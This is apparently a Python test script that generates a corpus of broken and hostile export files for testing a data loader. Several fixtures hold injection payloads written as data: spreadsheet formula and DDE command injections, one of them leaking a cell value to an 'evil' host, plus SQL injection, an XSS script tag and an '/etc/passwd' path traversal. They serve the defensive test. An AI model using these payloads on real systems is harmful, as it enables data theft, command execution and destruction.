"""Regenerate the loader corpus: broken and hostile export files, written byte for byte.

Run ``python tests/loader_corpus/make_corpus.py``; the files are committed, so tests never need it.
Expected outcomes live in ``cases.yaml`` beside this script (written by hand, not generated). Each
class of defect found later has its own ``make_<class>.py`` (called from here) and ``cases_<class>.yaml``;
a case with ``generate: make_<class>:function`` writes its (large) file at test time instead.
"""

from __future__ import annotations

import gzip
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent / "files"
H = "message_id,customer_id,channel,sent_at\n"


def csv(name: str, text: str, encoding: str = "utf-8", bom: bytes = b"") -> None:
    (HERE / name).write_bytes(bom + text.encode(encoding))


def main() -> None:
    HERE.mkdir(exist_ok=True)
    csv("01_clean_comma.csv", H + "M1,C1,email,2026-07-01 10:00:00\nM2,C2,sms,2026-07-02\n")
    csv("02_semicolon_finnish.csv", H.replace(",", ";") + "M1;C1;email;31.12.2025 14:05\nM2;C2;sms;1.2.2026\n")
    csv("03_tab.tsv", H.replace(",", "\t") + "M1\tC1\temail\t2026-07-01T10:00:00\n")
    csv("04_utf8_bom.csv", H + "M1,Cä1,email,2026-07-01\n", bom=b"\xef\xbb\xbf")
    csv("05_utf16_bom.csv", (H + "M1,Cö1,email,2026-07-01\n").replace(",", ";"), "utf-16")
    csv("06_cp1252_euro.csv", "message_id;customer_id;channel;sent_at;campaign\nM1;C1;email;1.7.2026;Ale 5 € äö\n",
        "cp1252")
    csv("07_latin1.csv", "message_id;customer_id;channel;sent_at;campaign\nM1;C1;email;1.7.2026;Hyvää päivää\n",
        "latin-1")
    csv("08_quoted_newlines.csv", H + 'M1,C1,email,2026-07-01\nM2,"C\n2",sms,2026-07-02\nM3,C3,sms,huono\n')
    csv("09_too_many_columns.csv", H + "M1,C1,email,2026-07-01\nM2,C2,sms,2026-07-02,EXTRA\n")
    csv("10_missing_columns.csv", H + "M1,C1,email,2026-07-01\nM2,C2\n")
    csv("11_bad_date.csv", H + "M1,C1,email,2026-07-01\nM2,C2,sms,31.2.2026\nM3,C3,sms,eilen\n")
    csv("12_missing_key.csv", H + "M1,C1,email,2026-07-01\n,C2,sms,2026-07-02\n")
    csv("13_duplicate_key.csv", H + "M1,C1,email,2026-07-01\nM1,C2,sms,2026-07-02\nM1,C3,sms,2026-07-03\n")
    csv("14_missing_required.csv", H + "M1,,email,2026-07-01\nM2,C2,,2026-07-02\n")
    csv("15_unescaped_quote.csv", H + 'M1,C1,email,2026-07-01\nM2,"C"2",sms,2026-07-02\n')
    csv("16_crlf.csv", (H + 'M1,C1,email,2026-07-01\nM2,"C\n2",sms,2026-07-02\n').replace("\n", "\r\n"))
    csv("17_formula_values.csv", H + 'M1,=HYPERLINK("http://evil/?"&A1),email,2026-07-01\n'
        "M2,@SUM(1+1),sms,2026-07-02\nM3,+cmd|' /C calc'!A0,sms,2026-07-02\n")
    csv("18_sql_in_values.csv", H + "M1,'; DROP TABLE quarantine; --,email,2026-07-01\nM2,<script>alert(1)</script>,sms,2026-07-02\n")
    csv("19_hostile_headers.csv", 'message_id,customer_id,channel,sent_at,"=HYPERLINK(""x"")","a""; DROP TABLE x; --",'
        "<script>,../../etc/passwd\nM1,C1,email,2026-07-01,1,2,3,4\n")
    csv("20_reserved_header.csv", H.strip() + ",regaudit:file\nM1,C1,email,2026-07-01,x\n")
    csv("21_empty.csv", "")
    csv("22_header_only.csv", H)
    csv("23_blank_lines.csv", H + "M1,C1,email,2026-07-01\n\n\nM2,C2,sms,2026-07-02\n")
    csv("24_whitespace.csv", H + "  M1 , C1 , email , 2026-07-01 10:00 \nM2,   ,sms,2026-07-02\n")
    csv("25_mixed_dates.csv", H + "M1,C1,email,2026-07-01\nM2,C2,sms,2.7.2026 14.05\nM3,C3,sms,02/07/2026\n")
    csv("26_offsets.csv", H + "M1,C1,email,2026-07-01T10:00:00Z\nM2,C2,sms,2026-07-01T10:00:00+03:00\n")
    csv("27_dst.csv", H + "M1,C1,email,2026-03-29 03:30\nM2,C2,sms,2026-10-25 03:30\nM3,C3,sms,2026-10-25 02:30\n")
    (HERE / "28_gzip.csv.gz").write_bytes(gzip.compress((H + "M1,C1,email,2026-07-01\nM2,C2,sms,bad\n").encode()))
    (HERE / "29_lines.jsonl").write_text('{"message_id":"M1","customer_id":"C1","channel":"email","sent_at":"2026-07-01"}\n'
                                         '{"message_id":"M2","customer_id":null,"channel":"sms","sent_at":"1.7.2026"}\n')
    (HERE / "30_array.json").write_text(json.dumps([
        {"message_id": "M1", "customer_id": "C1", "channel": "email", "sent_at": "2026-07-01 10:00"},
        {"message_id": "M2", "customer_id": "C2", "channel": "sms", "sent_at": "ei päivää"}]))
    (HERE / "31_broken.json").write_text('[{"message_id": "M1", "customer_id": ')
    (HERE / "32_not_parquet.parquet").write_bytes(b"PAR1 this is not parquet")
    csv("33_boolean_forms.csv", "user_id,role,shared\nu1,admin,kyllä\nu2,admin,ei\nu3,admin,x\nu4,admin,\n"
        "u5,admin,TRUE\nu6,admin,0\nu7,admin,maybe\n")
    csv("34_amounts.csv", "order_id;customer_id;ordered_at;amount_eur\nO1;C1;1.7.2026;1 234,50\nO2;C2;1.7.2026;12,5\n"
        "O3;C3;1.7.2026;1.234,50 €\nO4;C4;1.7.2026;kaksi\nO5;C5;1.7.2026;1\u00a0000\n")
    csv("35_skip_rows.csv", "Raportti: viestit\nAjettu 1.7.2026\n" + H + "M1,C1,email,2026-07-01\nM2,C2,sms,x\n")
    csv("36_cp1252_declared.csv", "message_id;customer_id;channel;sent_at\nM1;C€1;email;1.7.2026\n", "cp1252")
    csv("37_duplicate_headers.csv", "message_id,customer_id,channel,sent_at,note,note,\nM1,C1,email,2026-07-01,a,b,c\n")
    csv("38_values_map.csv", "message_id,customer_id,kanava,sent_at\nM1,C1,sähköposti,2026-07-01\nM2,C2,kirjekyyhky,2026-07-02\n")
    csv("39_invalid_utf8_late.csv", H + "".join(f"M{i},C{i},sms,2026-07-02\n" for i in range(1, 3001)))
    with (HERE / "39_invalid_utf8_late.csv").open("ab") as handle:
        handle.write(b"M9,C\xff9,sms,2026-07-03\n")
    csv("40_null_values.csv", H + "M1,C1,email,2026-07-01\nM2,NULL,sms,-\n")
    csv("42_blank_lines.csv", H + "M1,C1,sms,2026-07-01\n\nM2,C2,sms,notadate\n\n\nM3,\"C\n3\",sms,2026-07-01\n"
        "M4,C4\nM5,C5,sms,bad\n\n")
    csv("43_mixed_line_endings.csv", H.replace("\n", "\r\n") + "M1,C1,sms,2026-07-01\r\nM2,C2,sms,2026-07-01\n"
        "M3,\"C\r\n3\",sms,bad\nM4,C4,sms,2026-07-01\r\n")
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Pyynnöt"
    sheet.append(["request_id", "customer_id", "kind", "received_at", "outcome"])
    sheet.append(["R1", "C1", "access", "1.7.2026", "=HYPERLINK(\"http://evil\")"])
    sheet.append([None, None, None, None, None])
    sheet.append(["R2", "C2", "erasure", "not a date", "done"])
    sheet.append(["R3", "C3", "access", 46204.5, None])
    book.save(HERE / "41_requests.xlsx")
    monthly = HERE / "monthly"
    monthly.mkdir(exist_ok=True)
    (monthly / "log_2026-07.csv").write_text(H + "M1,C1,email,2026-07-01\nM2,C2,sms,2026-07-02\n")
    (monthly / "log_2026-08.csv").write_text(H + "M3,C3,email,2026-08-01\nM4,C4,sms,2026-08-02,X\nM5,C5,sms,1.8.2026\n")
    (monthly / "log_2026-09.csv").write_text(H.replace(",", ";") + "M6;C6;email;2026-09-01\n")


def main_all() -> None:
    """This script's files, then those of every make_<class>.py beside it (each with ``main(folder)``)."""
    import importlib.util

    main()
    for script in sorted(Path(__file__).resolve().parent.glob("make_*.py")):
        if script.name == "make_corpus.py":
            continue
        spec = importlib.util.spec_from_file_location(script.stem, script)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)  # type: ignore[union-attr]
        module.main(HERE)


if __name__ == "__main__":
    main_all()
